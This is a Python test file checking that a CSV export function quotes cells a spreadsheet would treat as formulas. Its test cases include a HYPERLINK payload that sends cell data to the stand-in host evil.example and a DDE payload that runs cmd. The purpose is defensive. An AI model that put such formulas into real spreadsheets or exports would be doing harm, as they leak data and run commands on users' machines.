"""CSV cells that a spreadsheet would run as formulas are written as text (issue 14, finding 4)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from api.domain.spreadsheet_cells import neutralise


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("山田 花子", "山田 花子"), ("a=1", "a=1"), ("", ""), ("'already", "'already"),
])
def test_formula_triggers_are_quoted(cell: str, written: str) -> None:
    assert neutralise(cell) == written


def test_every_csv_the_service_writes_goes_through_one_writer() -> None:
    """A second CSV writer would have to remember the rule: there is one, and it applies it."""
    api = Path(__file__).parents[2] / "api"
    writers = [p.relative_to(api).as_posix() for p in api.rglob("*.py")
               if re.search(r"\bcsv\.(writer|DictWriter)\(|^\s*from csv import .*\b(writer|DictWriter)\b",
                            p.read_text(), re.MULTILINE)]
    assert writers == ["services/exports.py"]
    assert "neutralise(cell)" in (api / "services" / "exports.py").read_text()
